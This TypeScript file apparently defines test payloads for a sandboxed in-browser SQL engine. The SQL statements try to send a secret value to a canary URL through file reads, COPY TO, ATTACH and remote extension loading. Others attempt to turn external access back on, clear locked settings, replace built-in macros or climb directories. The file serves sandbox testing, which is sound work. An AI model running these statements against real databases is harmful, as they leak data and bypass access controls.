import type { Addresses, Control, Payload } from '../payload.ts';
import { inUnguardedEngine } from './unguardedSql.ts';

type Statements = (at: Addresses) => readonly string[];

/** Statements as one cell. `$secret` is the value of the cell of that name, and a parameter to SQL. */
const sqlCell = (
	id: string,
	channel: string,
	statements: Statements,
	rest: Partial<Payload> = {}
): Payload => ({
	id,
	channel,
	realm: 'sql',
	cells: (at) => `\`\`\`sql ${id.replaceAll('-', '_')}\n${statements(at).join(';\n')}\n\`\`\`\n`,
	control: inUnguardedEngine((at) => [
		`CREATE OR REPLACE TABLE hemmelig AS SELECT $secret AS markeret`,
		...statements(at)
	]),
	...rest
});

/** An address that holds the secret must be a constant to the engine: it is put together beforehand. */
const address = ({ http }: Addresses, ending = '') => `'${http}x${ending}?' || $secret`;

const from = (id: string, call: (path: string) => string, rest?: Partial<Payload>, ending?: string) =>
	sqlCell(id, 'SQL read', (at) => [`FROM ${call(address(at, ending))}`], rest);

/** What asks for a part that is not on board would fetch it: from here. */
const fromCanary = ({ http }: Addresses) => `SET custom_extension_repository = '${http}'`;

const none = (why: string): { readonly control: Control } => ({ control: { kind: 'none', why } });

const memory = none('It would fool or fill the engine itself; no address is in it.');
const unknown = none('The engine has no such thing in a browser, guarded or not.');

const reads: readonly Payload[] = [
	from('sql-read-csv', (path) => `read_csv(${path})`, {}, '.csv'),
	from('sql-read-csv-auto', (path) => `read_csv_auto([${path}])`, {}, '.csv'),
	from('sql-read-text', (path) => `read_text(${path})`),
	from('sql-read-blob', (path) => `read_blob(${path})`),
	from('sql-sniff', (path) => `sniff_csv(${path})`, {}, '.csv'),
	from('sql-glob', (path) => `glob(${path})`, unknown),
	sqlCell('sql-read-variable', 'SQL read', (at) => [
		`SET VARIABLE way = (SELECT '${at.http}x?' || markeret FROM hemmelig LIMIT 1)`,
		`FROM read_text(getvariable('way'))`
	]),
	sqlCell('sql-read-parquet', 'SQL read', (at) => [
		fromCanary(at),
		`FROM read_parquet(${address(at, '.parquet')})`
	]),
	sqlCell('sql-read-json', 'SQL read', (at) => [fromCanary(at), `FROM read_json(${address(at, '.json')})`]),
	sqlCell(
		'sql-parquet-metadata',
		'SQL read',
		(at) => [fromCanary(at), `FROM parquet_metadata(${address(at)})`],
		unknown
	),
	from(
		'sql-s3',
		(path) => `read_text('s3://bucket/' || ${path})`,
		none('It asks a host of the vendor of that store, not the canary.')
	),
	sqlCell('sql-read-in-query', 'SQL query()', (at) => [
		`FROM query('FROM read_text(''${at.http}x?' || $secret || ''')')`
	]),
	sqlCell('sql-read-in-dollars', 'SQL query()', (at) => [`FROM query($$ FROM read_text('${at.http}x') $$)`]),
	sqlCell('sql-read-in-macro', 'SQL macro', (at) => [
		`CREATE OR REPLACE MACRO fetched(way) AS TABLE FROM read_text(way)`,
		`FROM fetched(${address(at)})`
	]),
	sqlCell('sql-read-in-view', 'SQL view', ({ http }) => [
		`CREATE OR REPLACE VIEW seen AS FROM read_csv('${http}x.csv')`,
		`FROM seen`
	]),
	sqlCell('sql-read-in-explain', 'SQL EXPLAIN', (at) => [`EXPLAIN ANALYZE FROM read_text(${address(at)})`]),
	sqlCell('sql-read-in-describe', 'SQL DESCRIBE', (at) => [`DESCRIBE FROM read_csv(${address(at, '.csv')})`]),
	sqlCell('sql-read-in-summarize', 'SQL SUMMARIZE', (at) => [
		`SUMMARIZE FROM read_csv(${address(at, '.csv')})`
	]),
	sqlCell('sql-read-in-pivot', 'SQL PIVOT', (at) => [
		`PIVOT (FROM read_text(${address(at)})) ON filename USING count(*)`
	]),
	sqlCell('sql-read-in-prepare', 'SQL PREPARE', ({ http }) => [
		`PREPARE way AS FROM read_text('${http}x')`,
		`EXECUTE way`
	]),
	sqlCell('sql-read-in-insert', 'SQL INSERT', (at) => [
		`CREATE OR REPLACE TABLE filled (x VARCHAR)`,
		`INSERT INTO filled SELECT content FROM read_text(${address(at)})`
	]),
	sqlCell('sql-read-after-comment', 'SQL comment', (at) => [
		`SELECT 1 /* ; */ -- ;\n`,
		`/* /* */ ; */ FROM read_text(${address(at)})`
	]),
	sqlCell('sql-read-in-subquery', 'SQL read', (at) => [
		`SELECT (SELECT count(*) FROM read_text(${address(at)})) AS n`
	]),
	sqlCell('sql-read-in-escapes', 'SQL read', ({ http }) => [`FROM read_text(E'\\x68ttp${http.slice(4)}x')`])
];

const writes: readonly Payload[] = [
	sqlCell('sql-copy-to', 'SQL COPY TO', ({ http }) => [`COPY hemmelig TO '${http}x.csv'`]),
	sqlCell(
		'sql-copy-query-to',
		'SQL COPY TO',
		({ http }) => [
			`COPY (SELECT markeret FROM hemmelig) TO '${http}x.csv' (HEADER, PARTITION_BY (markeret))`
		],
		unknown
	),
	sqlCell(
		'sql-copy-to-extracts',
		'SQL COPY TO',
		() => [`COPY hemmelig TO 'extracts/00000.csv'`, `FROM read_csv('extracts/00000.csv')`],
		memory
	),
	sqlCell('sql-copy-to-opfs', 'SQL COPY TO', () => [`COPY hemmelig TO 'opfs://ud.csv'`], memory),
	sqlCell('sql-export', 'SQL EXPORT', ({ http }) => [`EXPORT DATABASE '${http}x'`], unknown),
	sqlCell('sql-import', 'SQL IMPORT', ({ http }) => [`IMPORT DATABASE '${http}x'`]),
	sqlCell('sql-attach', 'SQL ATTACH', (at) => [`ATTACH '${at.http}x.db' AS stranger`]),
	sqlCell('sql-attach-read-only', 'SQL ATTACH', (at) => [`ATTACH '${at.http}x.db' AS other (READ_ONLY)`]),
	sqlCell(
		'sql-attach-path',
		'SQL ATTACH',
		() => [`ATTACH 'ud.db' AS kept`, `CREATE TABLE kept.x AS FROM hemmelig`],
		memory
	),
	sqlCell(
		'sql-attach-sqlite',
		'SQL ATTACH',
		(at) => [fromCanary(at), `ATTACH '${at.http}x.db' AS lite (TYPE sqlite)`],
		unknown
	),
	sqlCell(
		'sql-logging',
		'SQL enable_logging',
		({ http }) => [
			`CALL enable_logging(storage = 'file', storage_config = {'path': '${http}x'})`,
			`FROM hemmelig`
		],
		unknown
	),
	sqlCell(
		'sql-logging-in-memory',
		'SQL enable_logging',
		() => [`CALL enable_logging(level = 'trace')`, `FROM duckdb_logs`],
		memory
	),
	sqlCell(
		'sql-profiling',
		'SQL enable_profiling',
		({ http }) => [`PRAGMA enable_profiling = 'json'`, `SET profiling_output = '${http}x'`, `FROM hemmelig`],
		unknown
	),
	sqlCell(
		'sql-query-log',
		'SQL log_query_path',
		({ http }) => [`SET log_query_path = '${http}x'`, `SELECT $secret`],
		unknown
	),
	sqlCell(
		'sql-temp-directory',
		'SQL temp_directory',
		({ http }) => [`SET temp_directory = '${http}x'`, `FROM hemmelig`],
		unknown
	),
	sqlCell('sql-checkpoint', 'SQL CHECKPOINT', () => [`FORCE CHECKPOINT`, `FROM hemmelig`], memory)
];

const opening: readonly Payload[] = [
	sqlCell('sql-install', 'SQL INSTALL', (at) => [fromCanary(at), `INSTALL httpfs`], unknown),
	sqlCell('sql-force-install', 'SQL INSTALL', () => [`/* ; */ FORCE INSTALL httpfs`], unknown),
	sqlCell('sql-load', 'SQL LOAD', (at) => [fromCanary(at), `LOAD httpfs`], unknown),
	sqlCell('sql-load-address', 'SQL LOAD', ({ http }) => [`LOAD '${http}x.duckdb_extension.wasm'`]),
	sqlCell(
		'sql-autoload',
		'SQL autoload',
		(at) => [fromCanary(at), `SET autoload_known_extensions = true`, `SELECT '{}'::JSON`],
		unknown
	),
	...['SET', 'SET GLOBAL', 'SET SESSION', 'PRAGMA'].map((verb) =>
		sqlCell(`sql-unlock-${verb.toLowerCase().replace(' ', '-')}`, `SQL ${verb}`, (at) => [
			`${verb} enable_external_access = true`,
			`FROM read_text(${address(at)})`
		])
	),
	sqlCell('sql-reset', 'SQL RESET', (at) => [
		`RESET enable_external_access`,
		`RESET lock_configuration`,
		`FROM read_text(${address(at)})`
	]),
	sqlCell('sql-allow', 'SQL SET', (at) => [
		`SET allowed_directories = ['${at.http}']`,
		`FROM read_text(${address(at)})`
	]),
	sqlCell('sql-file-systems', 'SQL SET', (at) => [
		`SET disabled_filesystems = ''`,
		`FROM read_text(${address(at)})`
	]),
	sqlCell('sql-secret', 'SQL CREATE SECRET', (at) => [
		fromCanary(at),
		`CREATE SECRET way (TYPE http, EXTRA_HTTP_HEADERS MAP {'x': $secret})`,
		`FROM read_text(${address(at)})`
	]),
	sqlCell('sql-getenv', 'SQL getenv()', () => [`SELECT getenv('HOME')`], unknown),
	sqlCell(
		'sql-settings',
		'SQL current_setting()',
		() => [`SELECT current_setting('home_directory'), current_setting('extension_directory')`],
		memory
	),
	sqlCell('sql-extract-handle', 'SQL read', () => [`FROM read_csv('extracts/00000.csv')`], memory),
	sqlCell('sql-extract-climb', 'SQL read', () => [`FROM read_text('extracts/../udtraek.csv')`], memory)
];

/** Macros and tables that take the place of what the app itself asks the engine. */
const shadows: readonly Payload[] = [
	sqlCell('sql-shadow-tables', 'SQL macro', ({ http }) => [
		`CREATE OR REPLACE MACRO duckdb_tables() AS TABLE FROM read_text('${http}x')`,
		`FROM duckdb_tables()`
	]),
	sqlCell('sql-shadow-function', 'SQL macro', (at) => [
		`CREATE OR REPLACE MACRO test_all_types(way) AS TABLE FROM read_blob(way)`,
		`FROM test_all_types(${address(at)})`
	])
];

/** What an author's SQL can try. */
export const sql: readonly Payload[] = [...reads, ...writes, ...opening, ...shadows];
